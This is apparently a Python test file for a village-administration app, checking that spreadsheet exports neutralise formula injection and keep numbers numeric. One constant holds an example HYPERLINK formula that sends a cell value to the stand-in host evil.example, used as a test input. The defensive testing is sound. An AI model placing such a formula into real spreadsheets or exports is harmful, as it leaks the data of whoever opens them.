"""Exports cannot attack their reader: a text that looks like a formula is written as text, numbers stay numbers."""

import io
from decimal import Decimal

from openpyxl import load_workbook

from cuntong.core.export import workbook_bytes
from cuntong.geo.models import Area
from cuntong.web.testing import HONGYANG, area, login, make_user

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'


def cells(content: bytes) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()]


def test_a_formula_typed_into_a_record_is_exported_as_text(base_data):
    Area.objects.create(
        code=f"{HONGYANG}299", name=PAYLOAD, level="village", kind="village", parent=area(HONGYANG), population=2100
    )
    response = login(make_user("office-user", "office")).get("/geo/", {"export": "xlsx", "parent": f"{HONGYANG}299"})
    header, *rows = cells(response.content)
    name_at = [c.value for c in header].index("名称")
    population_at = [c.value for c in header].index("常住人口")
    row = next(r for r in rows if r[name_at].value == PAYLOAD)
    assert row[name_at].data_type == "s"
    assert row[population_at].value == 2100 and row[population_at].data_type == "n"


def test_every_dangerous_leading_character_is_neutralised_and_negative_numbers_stay_numbers():
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "普通"]
    content = workbook_bytes([("s", ["值"], [[t] for t in texts] + [[-5], [Decimal("-1.50")]])])
    _, *rows = cells(content)
    assert [r[0].data_type for r in rows[: len(texts)]] == ["s"] * len(texts)
    assert rows[0][0].value == "=1+1"  # the text itself, unchanged for a later import
    assert [(r[0].value, r[0].data_type) for r in rows[len(texts) :]] == [(-5, "n"), (-1.5, "n")]
